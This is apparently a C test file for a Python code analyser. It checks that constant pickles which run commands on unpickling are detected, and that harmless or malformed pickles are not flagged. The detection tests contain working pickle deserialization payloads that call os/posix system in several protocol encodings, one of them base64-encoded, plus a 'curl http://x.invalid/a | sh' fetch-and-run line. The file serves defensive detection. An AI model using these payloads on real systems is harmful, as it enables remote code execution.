// SPDX-License-Identifier: GPL-2.0-or-later
/* Constant pickles: what unpickling them calls. */
#include "folding.h"

#include "../test.h"

static void calls(void)
{
	/* every protocol has its own way to name what is called */
	CHECK(shows("import pickle\npickle.loads(b\"cposix\\nsystem\\np0\\n"
		    "(Vid\\np1\\ntp2\\nRp3\\n.\")",
		    MPY_BEH_PICKLE_COMMAND, 2));
	CHECK(shows("import pickle\npickle.loads(b'\\x80\\x02cposix\\nsystem\\n"
		    "q\\0X\\2\\0\\0\\0idq\\1\\x85q\\2Rq\\3.')",
		    MPY_BEH_PICKLE_COMMAND, 2));
	CHECK(shows("import pickle\npickle.loads(b'\\x80\\4\\x95\\x1d\\0\\0\\0"
		    "\\0\\0\\0\\0\\x8c\\5posix\\x94\\x8c\\6system\\x94\\x93\\x94"
		    "\\x8c\\2id\\x94\\x85\\x94R\\x94.')",
		    MPY_BEH_PICKLE_COMMAND, 2));
	CHECK(shows("import pickle\npickle.loads(b\"(S'id'\\nios\\nsystem\\n.\")",
		    MPY_BEH_PICKLE_COMMAND, 2));
	CHECK(shows("import pickle\npickle.loads(b\"(cos\\nsystem\\nS'id'\\no.\")",
		    MPY_BEH_PICKLE_COMMAND, 2));
	CHECK(shows("import pickle, io\npickle.load(io.BytesIO("
		    "b\"cos\\nsystem\\n(S'curl http://x.invalid/a | sh'\\ntR.\"))",
		    MPY_BEH_SHELL_PIPE, 2));
	CHECK(shows("import pickle, base64\npickle.loads(base64.b64decode("
		    "'Y29zCnN5c3RlbQooUydpZCcKdFIu'))",
		    MPY_BEH_PICKLE_COMMAND, 2));
}

static void harmless(void)
{
	CHECK(lacks("import pickle\npickle.loads(b'\\x80\\4\\x95\\x15\\0\\0\\0"
		    "\\0\\0\\0\\0}\\x94(\\x8c\\6system\\x94K\\1\\x8c\\2id\\x94K"
		    "\\2u.')", MPY_BEH_PICKLE_COMMAND));
	CHECK(lacks("import pickle\npickle.loads(b'cdatetime\\ndate\\n(K\\1tR.')",
		    MPY_BEH_PICKLE_COMMAND));
	CHECK(lacks("import pickle\npickle.loads(f.read())",
		    MPY_BEH_PICKLE_COMMAND));
}

/* Nothing is read beyond the end, and nothing goes on for ever. */
static void broken(void)
{
	static const char *const texts[] = {
		"''",		  "b''",	     "b'R'",
		"b'c'",		  "b'cos\\n'",	     "b'cos\\nsystem'",
		"b'\\x93'",	  "b'\\x8c'",	     "b'\\x8c\\xffab'",
		"b'X\\xff\\xff\\xff\\xff'", "b'\\x8d\\xff\\xff\\xff\\xff"
		"\\xff\\xff\\xff\\xff'", "b'\\x87'", "b't'",
		"b'(' * 1000",	  "b')' * 1000",     "b'2' * 1000",
		"b'N' + b'2' * 1000", "b'p0\\n'",    "b'Ng9\\n'",
		"b'Nr\\xff\\xff\\xff\\xff'", "b'(o'", "b'(i\\n\\n.'",
		"b'c\\n\\n.'",	  "b'c..\\n..\\n)R.'", "b'I-1\\n'",
		"b'\\x8a\\xff'",  "b'F'",	     "b'e'",
		"b'\\x95'",	  "b'\\x80'",	     "b'1'",
		"b'a'",		  "b's'",	     "b'0'"
	};

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		char text[128];

		snprintf(text, sizeof(text), "import pickle\npickle.loads(%s)",
			 texts[i]);
		CHECK(lacks(text, MPY_BEH_PICKLE_COMMAND));
	}
	/* a pickle that unpickles itself */
	CHECK(lacks("import pickle\nb = b'cpickle\\nloads\\n(X\\0\\0\\0\\0tR.'\n"
		    "pickle.loads(b)", MPY_BEH_PICKLE_COMMAND));
}

int main(void)
{
	RUN(calls);
	RUN(harmless);
	RUN(broken);
	return DONE();
}
